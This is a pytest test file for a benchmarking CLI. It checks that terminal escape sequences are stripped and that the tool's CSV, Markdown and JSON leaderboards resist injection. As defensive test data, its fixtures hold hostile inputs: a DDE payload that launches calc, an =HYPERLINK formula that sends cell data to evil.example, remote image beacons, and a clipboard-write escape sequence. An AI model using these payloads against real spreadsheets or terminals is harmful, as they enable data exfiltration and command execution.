"""Hostile text from nodes, records and file names: what benchctl prints carries no terminal escape
sequence (screen clear, window title, clipboard write, 8-bit CSI) and no rich markup, and the
leaderboard's CSV, Markdown and JSON cannot be turned into formulas, links, images, HTML or
invalid JSON (issue 13, items 5 and 6)."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from pathlib import Path

import pytest

from benchctl.engine.progress import LiveProgress, PlainProgress
from benchctl.results.leaderboard import COLUMNS, TABLE_COLUMNS
from benchctl.store import queries as q
from benchctl.store.database import open_store
from benchctl.store.models import Result
from benchctl.terminal_text import clean
from tests.conftest import cli_here, copy_home, run_cli, run_once

CLEAR, TITLE, CLIPBOARD, CSI8 = "\x1b[2J", "\x1b]0;TITLE\x07", "\x1b]52;c;Y2xpcA==\x07", "\x9b31m"
LEFTOVERS = ("\x1b", "\x9b", "\x07", "TITLE", "Y2xpcA")
"""Nothing of the sequences may remain: not their introducers, nor what they carried."""

HOSTILE_CAMPAIGN = r"""name: hostile
budget_usd: 5
target: {model: nanochat-d1, vocab_size: 512, target_param_data_ratio: 8.5, total_batch_size: 128}
defaults: {market: on-demand, max_attempts: 1}
payload:
  phases: [command]
  command:
    run: |
      printf '{"name": "[red]m\\u001b]0;TITLE\\u0007x", ' >> "$BENCHCTL_METRICS"
      printf '"message": "\\u009b31mhi\\u001b]52;c;Y2xpcA==\\u0007"}\n' >> "$BENCHCTL_METRICS"
      printf 'oops\033[2J\033]0;TITLE\007 \033]52;c;Y2xpcA==\007 \302\23331m [bold]markup[/bold] tail\n' >&2
      exit 3
matrix:
  - {provider: local, gpu: cpu, count: 1, price_usd_per_hour: 0.5}
"""
"""A node whose command writes escape sequences and rich markup to stderr (the failure reason) and
into a metric's name and message (the cell's last event), then fails."""


def assert_clean(text: str) -> None:
    found = [s for s in LEFTOVERS if s in text]
    assert not found, f"{found} reached the output:\n{text!r}"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """(BENCHCTL_HOME, what ``benchctl run`` printed) of the hostile campaign, run once per test run
    (``run_once``: xdist workers share it); read the home, or copy it."""
    home, _, ran = run_once(tmp_path_factory, "hostile", HOSTILE_CAMPAIGN)
    code, _, printed = ran.partition("\n")
    assert code == "exit 1" and "is not complete" in printed, ran
    return home, printed


def test_clean_strips_sequences_and_controls_and_keeps_text() -> None:
    dirty = f"a{CLEAR}b{TITLE}c{CLIPBOARD}d{CSI8}e\x1bPq#0;1\x1b\\f\x1b]0;unterminated"
    assert clean(dirty) == "abcdef"
    assert clean("ünïcødé 中文 [red]x[/red]\t\x00\x7fend") == "ünïcødé 中文 [red]x[/red] end"
    assert clean("line 1\r\nline 2\n") == "line 1 line 2 "
    assert clean("line 1\r\nline 2\n", newlines=True) == "line 1\nline 2\n"


@pytest.mark.slow
def test_run_status_and_leaderboard_print_node_output_clean(hostile_run: tuple[Path, str], tmp_path: Path) -> None:
    home, run_output = hostile_run
    assert "attempt 1 failed" in run_output and "[bold]markup[/bold] tail" in run_output, run_output
    assert_clean(run_output)  # the piped progress lines quote the node's stderr
    status = run_cli("status", home=home)
    assert status.returncode == 0 and "oops" in status.stdout and "[bold]markup[/bold] tail" in status.stdout
    assert_clean(status.stdout + status.stderr)
    board = run_cli("leaderboard", home=home)
    assert board.returncode == 0 and "failed" in board.stdout
    assert_clean(board.stdout + board.stderr)


@pytest.mark.slow
def test_live_table_shows_node_events_as_plain_text(hostile_run: tuple[Path, str], tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    copy_home(hostile_run[0], home)
    engine = open_store(f"sqlite:///{home / 'benchctl.db'}")
    (campaign,) = q.campaigns(engine)
    (cell,) = q.cells(engine, campaign.id or 0)
    (attempt,) = q.attempts(engine, cell.id or 0)
    (sample,) = [e for e in q.events(engine, cell.id or 0, kind="sample")]
    assert "\x1b]0;TITLE" in json.loads(sample.data_json)["name"], "the node's metric name reached the store raw"
    # that sample as the cell's newest event, so that the table shows it
    q.record_events(engine, attempt.id or 0, [{**json.loads(sample.data_json), "t": time.time() + 60,
                                                "kind": "sample", "phase": "command"}],
                            attempt.events_offset, attempt.events_offset + 1)

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setenv("COLUMNS", "250")
    out = Terminal()
    with LiveProgress(engine, campaign.id or 0, [cell.key], campaign.name, 5.0, stream=out, refresh_s=0.05) as view:
        view.log(f"refused from the node's artifacts: evil{TITLE}{CSI8}member")
        time.sleep(0.2)
    drawn = out.getvalue()
    assert "[red]mx" in drawn and "hi" in drawn, "rich markup from the node prints as text"
    assert "evilmember" in drawn
    for sequence in (CLEAR, "\x1b]", "\x9b", "TITLE", "Y2xpcA"):  # rich's own colour codes are fine
        assert sequence not in drawn, (sequence, drawn)


def test_plain_progress_prints_member_names_clean(capsys: pytest.CaptureFixture[str]) -> None:
    PlainProgress().log(f"local:cpux1:on-demand: refused from the node's artifacts: ../x{CLEAR}{TITLE}{CSI8}y")
    err = capsys.readouterr().err
    assert "refused from the node's artifacts: ../xy" in err
    assert_clean(err)


def test_error_naming_a_hostile_file_prints_clean(tmp_path: Path) -> None:
    path = tmp_path / f"evil{TITLE}{CLIPBOARD}.log"
    path.write_text("not an nccl-tests log\n")
    result = cli_here("import", str(path), home=tmp_path / "home")
    assert result.returncode == 2 and "evil.log: neither a result-record file" in result.stderr, result.stderr
    assert_clean(result.stderr)


# -- the leaderboard's formats --------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    """Records as an import or a hostile node could leave them: every text field hostile, a negative
    price, an infinite cost."""
    home = tmp_path / "home"
    home.mkdir()
    engine = open_store(f"sqlite:///{home / 'benchctl.db'}")
    env = json.dumps({"env": {"X": "<img src=http://evil.example/i.png>"}})
    campaign_id, _ = q.upsert_campaign(engine, f"camp{TITLE}", "{}", "x.yaml", 5.0, [
        q.NewCell(key=FORMULA, provider=f"+cmd|' /C calc'!A0{CSI8}", gpu="[red]H100", count=8, market="on-demand",
                  config_json=env),
        q.NewCell(key="@SUM(1+1)", provider="lambda", gpu="H100", count=8, market="spot", config_json="{}")])
    first, second = q.cells(engine, campaign_id)
    common = dict(step_time_p10_ms=1.0, step_time_p90_ms=2.0, timed_steps=3, target_steps=10, computed_at=1.0,
                  train_hours=1.0)
    q.save_result(engine, Result(cell_id=first.id or 0, step_time_ms=1.5, hourly_usd=-1.5, market="on-demand",
                                 cost_to_train_usd=-1.5, model="-2+3", interconnect="nv\\|link\n| x | y |",
                                 numa=f"![pixel](http://evil.example/p.png) [link](http://evil.example){CLEAR}",
                                 flags_json=json.dumps(["@SUM(1)", f"\tx{CLIPBOARD}"]), **common))
    q.save_result(engine, Result(cell_id=second.id or 0, step_time_ms=1.5, hourly_usd=2.0, market="spot",
                                 cost_to_train_usd=float("inf"), **common))
    engine.dispose()
    return home


def test_leaderboard_table_of_hostile_records(hostile_store: Path) -> None:
    result = cli_here("leaderboard", home=hostile_store)
    assert result.returncode == 0, result.stderr
    assert_clean(result.stdout)
    assert "[red]H100" in result.stdout and "+cmd|' /C calc'!A0" in result.stdout


def test_leaderboard_csv_has_no_formula_and_numbers_stay_numbers(hostile_store: Path) -> None:
    result = cli_here("leaderboard", "--format", "csv", home=hostile_store)
    assert result.returncode == 0, result.stderr
    assert_clean(result.stdout)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == list(COLUMNS)
    hostile = next(r for r in rows if r["provider"] != "lambda")
    assert hostile["cell"] == "'" + FORMULA
    assert hostile["provider"] == "'+cmd|' /C calc'!A0"
    assert hostile["model"] == "'-2+3"
    assert hostile["flags"].startswith("'@SUM(1)")
    assert (hostile["hourly_usd"], hostile["cost_to_train_usd"], hostile["count"]) == ("-1.5", "-1.5", "8")
    other = next(r for r in rows if r["provider"] == "lambda")
    assert other["cell"] == "'@SUM(1+1)" and other["cost_to_train_usd"] == ""
    for row in rows:
        for key, value in row.items():
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert re.fullmatch(r"-?\d+(\.\d+)?", value), f"{key}: {value!r} would run as a formula"


def test_leaderboard_md_cannot_break_the_table_or_embed_html_links_and_images(hostile_store: Path) -> None:
    result = cli_here("leaderboard", "--format", "md", "--wide", home=hostile_store)
    assert result.returncode == 0, result.stderr
    assert_clean(result.stdout)
    lines = result.stdout.splitlines()
    assert len(lines) == 2 + 2, "a newline in a cell does not start a row"
    unescaped_pipe = re.compile(r"(?<!\\)(?:\\\\)*\|")
    for line in lines:
        assert len(unescaped_pipe.findall(line)) == len(TABLE_COLUMNS) + 1, line
    text = result.stdout
    assert "<img" not in text and "&lt;img src=http://evil.example/i.png&gt;" in text
    assert "![" not in text and "](" not in text and "[link]" not in text
    assert r"!\[pixel\]\(http://evil.example/p.png\)" in text
    assert r"nv\\\|link \| x \| y \|" in text, "the backslash and the pipe are both escaped"
    assert "| spot / on-demand $ |" in lines[0], "no header of its own adds a column"


def test_leaderboard_json_has_no_infinity(hostile_store: Path) -> None:
    result = cli_here("leaderboard", "--format", "json", home=hostile_store)
    assert result.returncode == 0, result.stderr
    assert "Infinity" not in result.stdout and "NaN" not in result.stdout

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is not JSON")

    rows = json.loads(result.stdout, parse_constant=refuse)
    other = next(r for r in rows if r["provider"] == "lambda")
    assert other["cost_to_train_usd"] is None and other["hourly_usd"] == 2.0
    hostile = next(r for r in rows if r["provider"] != "lambda")
    assert hostile["hourly_usd"] == -1.5 and hostile["cell"] == FORMULA, "JSON carries the values as they are"


@pytest.mark.parametrize("cell", [" =HYPERLINK(\"http://evil.example\")", "\u00a0=1+1", "\u200b=SUM(A1)", "\uff1dcmd",
                                  "\n=1+1", "\u3000+cmd", "\ufeff@SUM(1)"])
def test_a_csv_cell_that_a_spreadsheet_trims_into_a_formula_is_quoted(cell: str) -> None:
    """Spreadsheets trim spaces and zero-width characters and fold full-width signs before they read a cell."""
    from benchctl.report.render import _csv_value

    assert _csv_value(cell).startswith("'")


@pytest.mark.parametrize("number", ["-1.5", " -2", "+3e5", "8"])
def test_a_csv_number_stays_a_number(number: str) -> None:
    from benchctl.report.render import _csv_value

    assert _csv_value(number) == number
